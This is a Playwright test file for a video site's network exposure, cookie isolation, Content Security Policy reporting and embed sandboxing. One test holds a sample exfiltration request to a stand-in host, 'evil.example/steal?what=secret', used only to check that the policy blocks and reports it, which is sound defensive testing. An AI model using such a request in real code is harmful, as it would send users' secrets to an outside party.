import { spawn } from 'node:child_process'
import { networkInterfaces } from 'node:os'
import { fileURLToPath } from 'node:url'
import type { Browser } from '@playwright/test'
import { createControlClient } from '../../sandbox/control/control-client.ts'
import { sandboxSites } from '../../scripts/support/sandbox-sites.ts'
import { openPage } from './living-page.ts'
import { expect, test } from './stack.ts'

const root = fileURLToPath(new URL('../../', import.meta.url))
const NAME = 'proscenium-box.local'
/** How other devices see this machine; without a network, another of its own addresses than the one that servers listen to by default. */
const lan =
  Object.values(networkInterfaces())
    .flat()
    .find((found) => found?.family === 'IPv4' && !found.internal)?.address ?? '127.0.0.2'

/** A sandbox and a site of their own on four ports from this one on, started as `npm start` starts them with this `HOST`. */
async function startPair(firstPort: number, host: string, from: string) {
  const [SITE_PORT, SANDBOX_PORT, SANDBOX_THIRD_PARTY_PORT, SANDBOX_CAM_PORT] = [0, 1, 2, 3].map((place) =>
    String(firstPort + place),
  )
  const allowed = `http://${from}:${SANDBOX_THIRD_PARTY_PORT}`
  const environment = {
    ...process.env,
    ...{ SITE_PORT, SANDBOX_PORT, SANDBOX_THIRD_PARTY_PORT, SANDBOX_CAM_PORT },
    NODE_ENV: 'production',
    HOST: host,
    SANDBOX_ADDRESS: from,
    BACKEND_ORIGIN: `http://127.0.0.1:${SANDBOX_PORT}`,
    CONTENT_ORIGIN: `http://${from}:${SANDBOX_THIRD_PARTY_PORT}`,
    CAM_ORIGIN: `http://${from}:${SANDBOX_CAM_PORT}`,
    AGE_PROVIDER_HOSTS: allowed,
    LOG_OUT_HOSTS: allowed,
    BILLER_HOSTS: allowed,
    SANDBOX_PROMOTIONS: 'off',
    SANDBOX_CAM_LIFE: 'off',
    SANDBOX_SITES: sandboxSites(SITE_PORT ?? '', [NAME, from]),
  }
  let said = ''
  const children = ['sandbox/main.ts', 'dist/server/main.js'].map((file) => {
    const child = spawn(process.execPath, [file], { cwd: root, env: environment, stdio: ['ignore', 'ignore', 'pipe'] })
    child.stderr.on('data', (chunk) => {
      said += chunk
    })
    return child
  })
  for (const path of [`${SANDBOX_PORT}/api/maintenance`, `${SITE_PORT}/robots.txt`])
    await expect.poll(() => isAnswered(`http://127.0.0.1:${path}`), { timeout: 40_000 }).toBe(true)
  return {
    SITE_PORT,
    SANDBOX_PORT,
    SANDBOX_THIRD_PARTY_PORT,
    SANDBOX_CAM_PORT,
    control: createControlClient(`http://127.0.0.1:${SANDBOX_PORT}`),
    said: () => said,
    stop: () => {
      for (const child of children) child.kill('SIGTERM')
    },
  }
}

function isAnswered(url: string) {
  return fetch(url, { signal: AbortSignal.timeout(2_000) }).then(
    () => true,
    () => false,
  )
}

async function withBrowser(launch: () => Promise<Browser>, use: (browser: Browser) => Promise<void>) {
  const browser = await launch()
  try {
    await use(browser)
  } finally {
    await browser.close()
  }
}

test.describe('on a network', () => {
  test('another device sees pictures, films and sockets when HOST allows it, and third parties none of the site’s cookies', async ({
    stack,
    playwright,
    launchOptions,
  }) => {
    test.slow()
    const pair = await startPair(stack.portAt(3), '0.0.0.0', lan)
    const args = [...(launchOptions.args ?? []), `--host-resolver-rules=MAP ${NAME} ${lan}`]
    const launch = () => playwright.chromium.launch({ ...launchOptions, args })
    try {
      await withBrowser(launch, async (browser) => {
        const origin = `http://${NAME}:${pair.SITE_PORT}`
        const context = await browser.newContext()
        const { accessToken, refreshToken } = await pair.control.signIn('member')
        await context.addCookies(
          Object.entries({
            age_confirmed: '1',
            cookieConsent: 'accept',
            atoken: accessToken,
            rtoken: refreshToken,
          }).map(([name, value]) => ({ name, value, url: origin })),
        )
        const page = await context.newPage()
        const problems: string[] = []
        page.on('console', (message) => {
          // Chromium says so of every document that neither https nor this machine served.
          const isOfNetwork = /Cross-Origin-Opener-Policy header has been ignored/.test(message.text())
          if (message.type() === 'error' && !isOfNetwork) problems.push(message.text())
        })
        page.on('pageerror', (error) => problems.push(error.message))
        const socket = page.waitForEvent('websocket')
        await page.goto(`${origin}/videos/`)
        const picture = page.locator('main img').first()
        await expect
          .poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth), { timeout: 40_000 })
          .toBeGreaterThan(0)
        expect(new URL(await picture.evaluate((image: HTMLImageElement) => image.currentSrc)).hostname).toBe(lan)
        await expect(page.getByRole('banner').getByRole('link', { name: 'Log In' })).toHaveCount(0)
        await expect
          .poll(async () => (await socket).url(), { timeout: 40_000 })
          .toContain(`${lan}:${pair.SANDBOX_CAM_PORT}`)
        await expect.poll(async () => (await pair.control.sockets()).open, { timeout: 40_000 }).toBeGreaterThan(0)
        await openPage(page, `${origin}/embed/low-tide-in-the-atrium/`)
        await page
          .getByRole('button', { name: /^Watch|^Play/ })
          .first()
          .click()
        await expect
          .poll(() => page.locator('video').evaluate((video: HTMLVideoElement) => video.currentTime), {
            timeout: 20_000,
          })
          .toBeGreaterThan(0)
        expect({ problems, leaks: await pair.control.leaks() }).toEqual({ problems: [], leaks: [] })
      })
      expect(await isAnswered(`http://${lan}:${pair.SANDBOX_PORT}/sandbox/api/state`)).toBe(false)
    } finally {
      pair.stop()
    }
  })

  test('no other device reaches any port unless HOST allows it', async ({ stack }) => {
    const pair = await startPair(stack.portAt(3), 'localhost', '127.0.0.1')
    const ports = [pair.SITE_PORT, pair.SANDBOX_PORT, pair.SANDBOX_THIRD_PARTY_PORT, pair.SANDBOX_CAM_PORT]
    const reached = await Promise.all(ports.map((port) => isAnswered(`http://${lan}:${port}/`)))
    pair.stop()
    expect(reached).toEqual([false, false, false, false])
  })
})

// Chromium sends reports from https only, so the page sends what its browser reports, as its browser would.
test('what a browser reports of the policy is taken, and a page says where to', async ({ page, stack, problems }) => {
  problems.allow('Content Security Policy')
  const response = await page.goto(`${stack.origin}/login/?token=secret`)
  expect(response?.headers()['reporting-endpoints']).toBe('csp="/reports/"')
  const { report, status } = await page.evaluate(async () => {
    const reported = new Promise<Report>((resolve) => {
      new ReportingObserver(([first]) => first && resolve(first), {
        types: ['csp-violation'],
        buffered: true,
      }).observe()
    })
    await fetch('https://evil.example/steal?what=secret').catch(() => undefined)
    const found = await reported
    const sent = await fetch('/reports/', {
      method: 'POST',
      headers: { 'Content-Type': 'application/reports+json' },
      body: JSON.stringify([found]),
    })
    return { report: JSON.parse(JSON.stringify(found)), status: sent.status }
  })
  expect({
    report: report.type,
    effectiveDirective: report.body.effectiveDirective,
    blockedURL: report.body.blockedURL,
    status,
  }).toEqual({
    report: 'csp-violation',
    effectiveDirective: 'connect-src',
    blockedURL: 'https://evil.example/steal?what=secret',
    status: 204,
  })
})

test('the embedded player cannot reach what moves money, and misses nothing that it needs', async ({
  page,
  stack,
  problems,
}) => {
  problems.allow('Content Security Policy', 'Failed to fetch', 'violates the following', 'status of 400')
  await page.goto(`${stack.origin}/embed/low-tide-in-the-atrium/`)
  const reached = await page.evaluate(async () => {
    const ask = (path: string) =>
      fetch(path, { method: 'POST' }).then(
        ({ status }) => status > 0,
        () => false,
      )
    return Promise.all(
      ['/api/payment/url', '/api/account', '/api/price-slots', '/content/dark/add-video-view'].map(ask),
    )
  })
  expect(reached).toEqual([false, false, false, true])
})
